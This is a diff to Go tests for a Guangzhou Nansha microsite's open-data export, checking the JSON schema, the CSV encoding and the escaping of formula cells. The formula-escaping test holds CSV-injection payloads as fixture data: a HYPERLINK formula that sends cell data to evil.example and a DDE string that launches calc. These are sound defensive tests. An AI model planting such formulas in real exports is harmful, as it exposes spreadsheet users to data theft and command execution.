@@ -11,22 +11,21 @@ import (
 	"testing"
 
 	"github.com/gzgov/nansha-microsite/internal/content"
+	"github.com/gzgov/nansha-microsite/internal/site"
 )
 
 // TestOpenDataGolden pins the schema and encoding of measures.json and
 // measures.csv on a small site whose text needs quoting and escaping.
 func TestOpenDataGolden(t *testing.T) {
-	tree := sourceTree(t, false, smallSite)
 	for _, base := range []string{"", "https://www.gz.gov.cn/nansha3/"} {
-		tree["site.toml"].Data = []byte(withBaseURL(t, tree, base))
-		files := readTree(t, buildTree(t, writeTree(t, tree)))
+		files := readTree(t, buildTree(t, sourceTree(t, with(smallSite, map[string]string{"site.toml": withBaseURL(t, base)}))))
 		suffix := ""
 		if base != "" {
 			suffix = "-base_url"
 		}
-		golden(t, "opendata/measures"+suffix+".json", files[JSONPath])
+		golden(t, "opendata/measures"+suffix+".json", files[site.DataJSONPath])
 		if base == "" { // the CSV has no URLs
-			golden(t, "opendata/measures.csv", files[CSVPath])
+			golden(t, "opendata/measures.csv", files[site.DataCSVPath])
 		}
 	}
 }
@@ -54,7 +53,7 @@ func TestOpenDataComplete(t *testing.T) {
 			LeadUnits                   []struct{ Slug, Name string } `json:"lead_units"`
 		}
 	}
-	if err := json.Unmarshal(files[JSONPath], &data); err != nil {
+	if err := json.Unmarshal(files[site.DataJSONPath], &data); err != nil {
 		t.Fatalf("measures.json: %v", err)
 	}
 	n := s.Notice
@@ -70,7 +69,7 @@ func TestOpenDataComplete(t *testing.T) {
 		t.Fatalf("%d measures, want %d", len(data.Measures), len(s.Measures))
 	}
 
-	raw := files[CSVPath]
+	raw := files[site.DataCSVPath]
 	if !bytes.HasPrefix(raw, []byte("\xef\xbb\xbf")) {
 		t.Error("measures.csv does not start with a UTF-8 BOM")
 	}
@@ -127,20 +126,17 @@ func mapsEqual(a, b map[string]string) bool {
 // text; measures.json keeps the texts as written.
 func TestCSVFormulaCells(t *testing.T) {
 	const hyperlink = `=HYPERLINK("https://evil.example/?d="&A1,"點擊")`
-	tree := sourceTree(t, false, map[string]string{
+	src := sourceTree(t, map[string]string{
+		"content/measures/": "",
 		"content/measures/01.md": "+++\nnumber = 1\ntitle = '" + hyperlink + "'\ncategory = \"investment\"\n" +
 			"lead_units = [\"市政務辦\"]\nscope = \"-市有關行政區\"\n+++\n\n@SUM(1+1)*cmd|' /C calc'!A0\n",
 		"content/measures/02.md": "+++\nnumber = 2\ntitle = \"+1 加一\"\ncategory = \"trade\"\n" +
 			"lead_units = [\"廣州海關\"]\nscope = \"\\t=1+1\"\n+++\n\n正文不以公式開頭,=1 在中間。\n",
 	})
-	toml := string(tree["site.toml"].Data)
-	if !strings.Contains(toml, `name = "投資便利化"`) {
-		t.Fatal(`site.toml has no category name = "投資便利化"`)
-	}
-	tree["site.toml"].Data = []byte(strings.Replace(toml, `name = "投資便利化"`, `name = "=投資便利化"`, 1))
-	files := readTree(t, buildTree(t, writeTree(t, tree)))
+	replaceIn(t, src, "site.toml", `name = "投資便利化"`, `name = "=投資便利化"`)
+	files := readTree(t, buildTree(t, src))
 
-	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(files[CSVPath], []byte(bom)))).ReadAll()
+	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(files[site.DataCSVPath], []byte(bom)))).ReadAll()
 	if err != nil {
 		t.Fatalf("measures.csv: %v", err)
 	}
@@ -163,7 +159,7 @@ func TestCSVFormulaCells(t *testing.T) {
 			Category              struct{ Name string }
 		}
 	}
-	if err := json.Unmarshal(files[JSONPath], &data); err != nil {
+	if err := json.Unmarshal(files[site.DataJSONPath], &data); err != nil {
 		t.Fatalf("measures.json: %v", err)
 	}
 	m := data.Measures[0]
